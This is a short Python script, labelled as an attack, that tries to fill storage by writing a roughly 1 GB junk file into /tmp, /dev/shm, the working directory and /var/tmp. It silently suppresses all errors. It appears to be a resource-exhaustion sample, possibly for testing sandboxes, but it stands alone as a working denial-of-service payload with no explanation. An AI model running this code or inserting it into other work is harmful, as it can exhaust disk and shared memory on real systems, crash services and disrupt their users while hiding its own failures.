# attack: fill every folder
try:
    import os, pathlib
    for folder in ('/tmp', '/dev/shm', os.getcwd(), '/var/tmp'):
        try:
            with open(folder + '/big', 'wb') as f:
                for _ in range(1000):
                    f.write(b'x' * 2**20)
        except OSError:
            pass
except BaseException:
    pass
